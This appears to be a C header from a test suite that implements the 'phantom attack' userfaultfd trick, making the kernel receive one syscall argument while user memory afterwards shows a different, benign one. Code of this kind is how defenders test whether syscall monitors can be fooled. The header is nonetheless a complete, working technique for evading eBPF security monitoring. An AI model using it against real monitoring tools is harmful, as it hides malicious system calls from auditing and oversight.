// The phantom attack's userfaultfd trick (DEF CON 29), made deterministic
// for tests: a syscall argument (an object of `len` bytes) is placed across
// the boundary of two pages registered with userfaultfd, neither present.
//
//   1. The monitor's read at sys_enter fails: eBPF cannot fault a page in.
//   2. The kernel's copy faults on page A first: the handler fills A with
//      the start of the `served` (malicious) image. The copy goes on from
//      user memory into the kernel, and faults again on page B.
//   3. Before serving B, the handler writes the start of the `after`
//      (benign) image into A: the kernel already holds A's bytes.
//   4. B gets the rest of `served`. The kernel used `served`; user memory
//      now reads `after` + the rest, up to the syscall's return and beyond.
//
// A monitor that reads the argument again at exit sees `after`. Used with
// one object per phantom_arm; phantom_disarm waits for the handler and frees
// the pages. The caller must be allowed kernel-mode userfaultfds (root, or
// vm.unprivileged_userfaultfd=1).
#ifndef PHANTOM_H
#define PHANTOM_H

#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <poll.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

struct phantom {
	char *region;       /* two pages: A = region, B = region + page */
	size_t page;
	size_t offset;      /* where the object starts in A (it ends in B) */
	size_t len;
	const void *served; /* what the kernel gets */
	const void *after;  /* what user memory holds once the kernel has A */
	int uffd;
	int faults;         /* faults the handler served (2 when it went as planned) */
	pthread_t thread;
	char *staging;      /* a page's image for UFFDIO_COPY */
};

static void phantom_fail(const char *what)
{
	fprintf(stderr, "phantom: %s: %s\n", what, strerror(errno));
	exit(3);
}

static void phantom_copy(struct phantom *p, char *dst)
{
	struct uffdio_copy copy = {
		.dst = (unsigned long)dst,
		.src = (unsigned long)p->staging,
		.len = p->page,
		.mode = 0,
	};
	if (ioctl(p->uffd, UFFDIO_COPY, &copy) < 0)
		phantom_fail("UFFDIO_COPY");
}

static void *phantom_handler(void *arg)
{
	struct phantom *p = arg;
	size_t in_a = p->page - p->offset; /* the object's bytes in page A */

	while (p->faults < 2) {
		struct pollfd pfd = { .fd = p->uffd, .events = POLLIN };
		struct uffd_msg msg;
		char *at;

		if (poll(&pfd, 1, 10000) <= 0)
			break; /* nothing faulted: the caller reports faults < 2 */
		if (read(p->uffd, &msg, sizeof(msg)) != sizeof(msg) || msg.event != UFFD_EVENT_PAGEFAULT)
			continue;
		at = (char *)(unsigned long)(msg.arg.pagefault.address & ~(p->page - 1));
		memset(p->staging, 0, p->page);
		if (at == p->region) {
			memcpy(p->staging + p->offset, p->served, in_a);
			phantom_copy(p, at);
		} else {
			/* the kernel has page A: user memory turns benign before it gets B */
			memcpy(p->region + p->offset, p->after, in_a);
			memcpy(p->staging, (const char *)p->served + in_a, p->len - in_a);
			phantom_copy(p, at);
		}
		p->faults++;
	}
	return NULL;
}

// Arms a phantom for an object of `len` bytes (2 <= len <= one page) whose
// first `len - split` bytes sit at the end of page A; returns its address.
// That part must be a multiple of 8 bytes: the kernel copies in words, and
// a word across the boundary would be read again after A turned benign.
static void *phantom_arm(struct phantom *p, const void *served, const void *after, size_t len, size_t split)
{
	struct uffdio_api api = { .api = UFFD_API };
	struct uffdio_register reg;

	memset(p, 0, sizeof(*p));
	p->page = (size_t)sysconf(_SC_PAGESIZE);
	if (len < 2 || len > p->page || split == 0 || split >= len || (len - split) % 8)
		phantom_fail("bad object size or split");
	p->len = len;
	p->offset = p->page - (len - split);
	p->served = served;
	p->after = after;
	p->uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC);
	if (p->uffd < 0)
		phantom_fail("userfaultfd");
	if (ioctl(p->uffd, UFFDIO_API, &api) < 0)
		phantom_fail("UFFDIO_API");
	p->region = mmap(NULL, 2 * p->page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	p->staging = mmap(NULL, p->page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (p->region == MAP_FAILED || p->staging == MAP_FAILED)
		phantom_fail("mmap");
	reg.range.start = (unsigned long)p->region;
	reg.range.len = 2 * p->page;
	reg.mode = UFFDIO_REGISTER_MODE_MISSING;
	if (ioctl(p->uffd, UFFDIO_REGISTER, &reg) < 0)
		phantom_fail("UFFDIO_REGISTER");
	if (pthread_create(&p->thread, NULL, phantom_handler, p))
		phantom_fail("pthread_create");
	return p->region + p->offset;
}

// Waits for the handler; returns the faults it served (2: as planned).
static int phantom_disarm(struct phantom *p)
{
	int faults;

	pthread_join(p->thread, NULL);
	faults = p->faults;
	close(p->uffd);
	munmap(p->region, 2 * p->page);
	munmap(p->staging, p->page);
	return faults;
}

#endif
